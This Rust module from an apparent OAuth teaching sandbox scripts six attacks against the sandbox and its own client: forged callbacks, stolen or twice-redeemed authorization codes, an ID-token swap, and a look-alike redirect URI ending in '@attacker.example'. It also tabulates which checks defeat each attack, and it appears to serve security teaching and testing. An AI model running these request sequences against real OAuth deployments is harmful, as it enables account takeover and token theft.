//! Attacks on the sandbox and on this client: as data, and the steps of each. A table says which checks stop which
//! attack, and a test proves the table.
//!
//! Nothing here sends anything itself: the caller sends each request, and the sandbox treats it like a request from
//! anyone. The victim's side is this page's own client.

use serde_json::Value;

mod staging;

pub use staging::run_as_set;

use crate::{
    glass::{Check, Entry, Switches},
    oauth::{
        authorization_request::AuthorizationRequest,
        callback::{Callback, CallbackError, VerifiedCallback},
        form_encoding,
        http::{HttpRequest, HttpResponse, Method, header},
        id_token,
        secret::{AccessToken, AuthorizationCode, Body, ClientSecret, IdToken, Query, SecretUrl},
        simulated::{ClientChecks, SimulatedRequest},
        token_request::{self, ClientAuth},
        token_response::{self, TokenResponse},
    },
};

/// The victim: the email address that signs in to the sandbox.
pub const VICTIM: &str = "victim@sandbox.example";

/// The attacker's email address.
pub const ATTACKER: &str = "mallory@sandbox.example";

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// The victim's page is sent a callback with the attacker's code, and is then signed in to the attacker's account.
    ForgedCallback,
    /// A thief redeems the victim's code before the victim does.
    StolenCode,
    /// The code is sent to an address that only looks like the page's.
    LookAlikeCode,
    /// The same, and the attacker redeems the code. The attacker began the flow, so has the verifier.
    LookAlikeToken,
    /// The client redeems one code twice.
    CodeTwice,
    /// The ID token of another session replaces the session's own.
    SwappedIdToken,
}

/// A check that can be switched off: the first two in the page, the others in the sandbox.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Lock {
    /// The page's check of the state.
    State,
    /// The page's check of the nonce.
    Nonce,
    /// The sandbox's check of the redirect URI.
    ExactRedirectUri,
    /// The sandbox's check of the verifier.
    Pkce,
    /// The sandbox's check of the client's secret.
    ClientAuthentication,
    /// The sandbox accepts a code only once.
    SingleUse,
}

impl Lock {
    /// Every lock.
    pub const ALL: [Self; 6] =
        [Self::State, Self::Nonce, Self::ExactRedirectUri, Self::Pkce, Self::ClientAuthentication, Self::SingleUse];

    /// Whether it is on.
    pub fn is_on(self, switches: Switches, checks: ClientChecks) -> bool {
        match self {
            Self::State => checks.state,
            Self::Nonce => checks.nonce,
            Self::ExactRedirectUri => switches.exact_redirect_uri,
            Self::Pkce => switches.pkce,
            Self::ClientAuthentication => switches.client_authentication,
            Self::SingleUse => switches.single_use,
        }
    }

    /// Switches it.
    pub fn set(self, switches: &mut Switches, checks: &mut ClientChecks, is_on: bool) {
        *match self {
            Self::State => &mut checks.state,
            Self::Nonce => &mut checks.nonce,
            Self::ExactRedirectUri => &mut switches.exact_redirect_uri,
            Self::Pkce => &mut switches.pkce,
            Self::ClientAuthentication => &mut switches.client_authentication,
            Self::SingleUse => &mut switches.single_use,
        } = is_on;
    }
}

impl Attack {
    /// Every attack, in the order in which the page lists them.
    pub const ALL: [Self; 6] = [
        Self::ForgedCallback,
        Self::StolenCode,
        Self::LookAlikeCode,
        Self::LookAlikeToken,
        Self::CodeTwice,
        Self::SwappedIdToken,
    ];

    /// Its id, in element ids and tables.
    pub fn id(self) -> &'static str {
        match self {
            Self::ForgedCallback => "forged-callback",
            Self::StolenCode => "stolen-code",
            Self::LookAlikeCode => "look-alike-code",
            Self::LookAlikeToken => "look-alike-token",
            Self::CodeTwice => "code-twice",
            Self::SwappedIdToken => "swapped-id-token",
        }
    }

    /// The checks that stop it, each by itself: it succeeds exactly if all of them are off.
    pub fn locks(self) -> &'static [Lock] {
        match self {
            Self::ForgedCallback => &[Lock::State, Lock::Pkce],
            Self::StolenCode => &[Lock::Pkce, Lock::ClientAuthentication],
            Self::LookAlikeCode => &[Lock::ExactRedirectUri],
            Self::LookAlikeToken => &[Lock::ExactRedirectUri, Lock::ClientAuthentication],
            Self::CodeTwice => &[Lock::SingleUse],
            Self::SwappedIdToken => &[Lock::Nonce],
        }
    }
}

/// The two parties of an attack, with their requests.
#[derive(Clone, Debug)]
pub struct Scene {
    /// The request that the victim's page sent. It asks for an ID token, for the rooms and for the user's profile.
    pub victim: AuthorizationRequest,
    /// The attacker's own request with the same client: only state, nonce and verifier differ.
    pub attacker: AuthorizationRequest,
    /// The client's secret, which the attacker doesn't have.
    pub secret: ClientSecret,
    /// The page's checks.
    pub checks: ClientChecks,
    /// The time, in seconds since 1970-01-01T00:00:00Z.
    pub now_secs: u64,
}

/// The sandbox's response, and its checks.
#[derive(Clone, Debug)]
pub struct Answer {
    /// The response.
    pub response: HttpResponse,
    /// The checks, if there were any.
    pub entry: Option<Entry>,
}

/// How an attack ended.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Outcome {
    /// It succeeded; holds what the attacker got.
    Succeeded(Loot),
    /// It was stopped.
    Stopped(Stop),
}

/// What stopped it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Stop {
    /// A check of the sandbox.
    Server(Check),
    /// The page's check of the callback.
    Callback(Box<CallbackError>),
    /// The page's check of the ID token; holds the claim.
    IdToken(&'static str),
    /// Something unrelated to the attack: a response with this status, or 0 for no response.
    Unexpected(u16),
}

/// What the attacker gets from a successful attack.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Loot {
    /// The code.
    pub code: Option<AuthorizationCode>,
    /// The access token.
    pub access_token: Option<AccessToken>,
    /// The ID token that the page accepted.
    pub id_token: Option<IdToken>,
    /// The email address of the account.
    pub account: Option<String>,
    /// The titles of the rooms that the token can read.
    pub rooms: Vec<String>,
}

/// Runs an attack; `send` has the sandbox answer a request, with the redirect readable.
pub async fn run(attack: Attack, scene: &Scene, mut send: impl AsyncFnMut(HttpRequest) -> Option<Answer>) -> Outcome {
    let actor = &mut Actor { scene, send: &mut send };
    let result = match attack {
        Attack::ForgedCallback => actor.forge_callback().await,
        Attack::StolenCode => actor.steal_code().await,
        Attack::LookAlikeCode => actor.lure_code().await.map(|code| Loot { code: Some(code), ..Loot::default() }),
        Attack::LookAlikeToken => actor.lure_token().await,
        Attack::CodeTwice => actor.redeem_twice().await,
        Attack::SwappedIdToken => actor.swap_id_token().await,
    };
    result.map_or_else(Outcome::Stopped, Outcome::Succeeded)
}

struct Actor<'a, S> {
    scene: &'a Scene,
    send: &'a mut S,
}

impl<S: AsyncFnMut(HttpRequest) -> Option<Answer>> Actor<'_, S> {
    /// The attacker signs in to get a code, and has the victim's browser open the callback with it.
    async fn forge_callback(&mut self) -> Result<Loot, Stop> {
        let scene = self.scene;
        let callback = self.sign_in(scene.attacker.url().expose(), ATTACKER).await?;
        let verified = self.verified(&scene.victim, &callback)?;
        let tokens = self.exchange(&verified).await?;
        self.loot(tokens).await
    }

    /// The thief has read the code somewhere along the way, and knows the client's public values.
    async fn steal_code(&mut self) -> Result<Loot, Stop> {
        let scene = self.scene;
        let callback = self.sign_in(scene.victim.url().expose(), VICTIM).await?;
        let code = code_in(&callback)?;
        let form = [
            ("grant_type", "authorization_code"),
            ("client_id", &scene.victim.client_id),
            ("redirect_uri", scene.victim.redirect_uri.as_str()),
            ("code", code.expose()),
        ];
        let tokens = self.redeem(&form).await?;
        self.loot(tokens).await
    }

    /// The victim follows the attacker's link, and signs in at the real server.
    async fn lure_code(&mut self) -> Result<AuthorizationCode, Stop> {
        let request = &self.scene.attacker;
        let (right, alike) = (request.redirect_uri.as_str(), look_alike(request));
        let (from, to) = (form_encoding::encoded_word(right), form_encoding::encoded_word(&alike));
        let url = request.url();
        let (before, after) = url.expose().split_once(&from).ok_or(Stop::Unexpected(0))?;
        code_in(&self.sign_in(SecretUrl::of(&[before, &to, after]).expose(), VICTIM).await?)
    }

    async fn lure_token(&mut self) -> Result<Loot, Stop> {
        let code = self.lure_code().await?;
        let request = &self.scene.attacker;
        let alike = look_alike(request);
        let verifier = request.code_verifier.as_ref().map(|verifier| ("code_verifier", verifier.expose()));
        let form: Vec<(&str, &str)> = [
            ("grant_type", "authorization_code"),
            ("client_id", &request.client_id),
            ("redirect_uri", &alike),
            ("code", code.expose()),
        ]
        .into_iter()
        .chain(verifier)
        .collect();
        let tokens = self.redeem(&form).await?;
        self.loot(tokens).await
    }

    async fn redeem_twice(&mut self) -> Result<Loot, Stop> {
        let scene = self.scene;
        let callback = self.sign_in(scene.victim.url().expose(), VICTIM).await?;
        let verified = self.verified(&scene.victim, &callback)?;
        let first = self.exchange(&verified).await?;
        let second = self.exchange(&verified).await?;
        // Two tokens for one code: the first token must still work.
        self.loot(first).await?;
        self.loot(second).await
    }

    /// The attacker signs in at the same client, and puts the ID token of that session into the victim's answer.
    async fn swap_id_token(&mut self) -> Result<Loot, Stop> {
        let scene = self.scene;
        let callback = self.sign_in(scene.attacker.url().expose(), ATTACKER).await?;
        let theirs = self.verified(&scene.attacker, &callback)?;
        let other = self.exchange(&theirs).await?.id_token.ok_or(Stop::Unexpected(200))?;
        let callback = self.sign_in(scene.victim.url().expose(), VICTIM).await?;
        let verified = self.verified(&scene.victim, &callback)?;
        let tokens = TokenResponse { id_token: Some(other), ..self.exchange(&verified).await? };
        self.accept_id_token(&verified, &tokens)?;
        self.loot(tokens).await
    }

    /// The page's checks of an ID token, except the signature: a swapped token has a valid one.
    fn accept_id_token(&self, verified: &VerifiedCallback, tokens: &TokenResponse) -> Result<(), Stop> {
        let token = tokens.id_token.as_ref().ok_or(Stop::Unexpected(200))?;
        let decoded = id_token::decode(token).map_err(|_| Stop::Unexpected(200))?;
        let request = verified.request();
        let expected = id_token::Expected {
            issuers: &request.endpoints.facts.id_token_issuers,
            client_id: &request.client_id,
            nonce: request.nonce.as_ref(),
            first: None,
            max_age: None,
            now_secs: self.scene.now_secs,
        };
        let unchecked = SimulatedRequest::of(request).and_then(|it| it.nonce_unchecked(self.scene.checks));
        let checks = match unchecked {
            Some(unchecked) => id_token::check_except_nonce(&decoded, expected, unchecked),
            None => id_token::check(&decoded, expected),
        };
        checks.iter().find(|check| !check.is_right()).map_or(Ok(()), |check| Err(Stop::IdToken(check.what)))
    }

    /// Signs in and accepts. Returns the URL that the browser is redirected to.
    async fn sign_in(&mut self, url: &str, email: &str) -> Result<SecretUrl, Stop> {
        let url = SecretUrl::of(&[url, "&email=", &form_encoding::encoded_word(email)]);
        let headers = vec![header("content-type", FORM)];
        let request = HttpRequest { method: Method::POST, url, headers, body: Body::new("decision=accept") };
        let response = self.ask(request, 303).await?;
        response.header("location").map(SecretUrl::from).ok_or(Stop::Unexpected(303))
    }

    /// The victim's page verifies a callback.
    fn verified(&self, request: &AuthorizationRequest, callback: &SecretUrl) -> Result<VerifiedCallback, Stop> {
        let callback = Callback::parse(&callback.query()).ok_or(Stop::Unexpected(303))?;
        let verified = match SimulatedRequest::of(request) {
            Some(simulated) => simulated.verify(callback, self.scene.checks),
            None => callback.verify(Some(request.clone())),
        };
        verified.map_err(|error| Stop::Callback(Box::new(error)))
    }

    /// The page's own exchange, with the client secret.
    async fn exchange(&mut self, verified: &VerifiedCallback) -> Result<TokenResponse, Stop> {
        let request = token_request::exchange(verified, ClientAuth::Post, &self.scene.secret).into_http();
        let response = self.ask(request, 200).await?;
        token_response::parse(&response).map_err(|_| Stop::Unexpected(200))
    }

    /// An exchange without the client secret.
    async fn redeem(&mut self, form: &[(&str, &str)]) -> Result<TokenResponse, Stop> {
        let url = self.scene.victim.endpoints.token.as_str().into();
        let body = Body::new(form_encoding::encoded(form.iter().copied()));
        let headers = vec![header("content-type", FORM)];
        let response = self.ask(HttpRequest { method: Method::POST, url, headers, body }, 200).await?;
        token_response::parse(&response).map_err(|_| Stop::Unexpected(200))
    }

    /// Uses the token: to see whose account it is for, and which rooms it can read.
    async fn loot(&mut self, tokens: TokenResponse) -> Result<Loot, Stop> {
        let person = self.get("/people/me", &tokens.access_token).await?;
        let rooms = self.get("/rooms", &tokens.access_token).await?;
        let text = |value: &Value| value.as_str().map(str::to_owned);
        let titles = rooms["items"].as_array().map(Vec::as_slice).unwrap_or_default();
        Ok(Loot {
            code: None,
            account: text(&person["emails"][0]),
            rooms: titles.iter().filter_map(|room| text(&room["title"])).collect(),
            access_token: Some(tokens.access_token),
            id_token: tokens.id_token,
        })
    }

    async fn get(&mut self, path: &str, token: &AccessToken) -> Result<Value, Stop> {
        let base = self.scene.victim.endpoints.api_base.as_ref().ok_or(Stop::Unexpected(0))?;
        let headers = vec![header("authorization", ["Bearer ", token.expose()].concat())];
        let url = SecretUrl::of(&[base.as_str(), path]);
        let response = self.ask(HttpRequest { method: Method::GET, url, headers, body: Body::default() }, 200).await?;
        serde_json::from_str(response.body.expose()).map_err(|_| Stop::Unexpected(200))
    }

    /// Sends a request, and returns its response if that has this status; otherwise the check that failed.
    async fn ask(&mut self, request: HttpRequest, status: u16) -> Result<HttpResponse, Stop> {
        let Answer { response, entry } = (self.send)(request).await.ok_or(Stop::Unexpected(0))?;
        match entry.and_then(|entry| entry.failed()) {
            _ if response.status == status => Ok(response),
            Some(check) => Err(Stop::Server(check)),
            None => Err(Stop::Unexpected(response.status)),
        }
    }
}

const FORM: &str = "application/x-www-form-urlencoded";

/// An address that begins like the client's, but belongs to someone else: the text before the `@` isn't the host.
pub fn look_alike(request: &AuthorizationRequest) -> String {
    let right = request.redirect_uri.as_str();
    let host = right.find("//").map_or(0, |at| at + "//".len());
    let end = right[host..].find('/').map_or(right.len(), |end| host + end);
    [&right[..end], "@attacker.example", &right[end..]].concat()
}

fn code_in(callback: &SecretUrl) -> Result<AuthorizationCode, Stop> {
    let query: Query = callback.query();
    let text = query.expose();
    form_encoding::pairs(text.strip_prefix('?').unwrap_or(text))
        .find(|(name, _)| name.as_str() == "code")
        .map(|(_, value)| AuthorizationCode::new(value.as_str()))
        .ok_or(Stop::Unexpected(303))
}
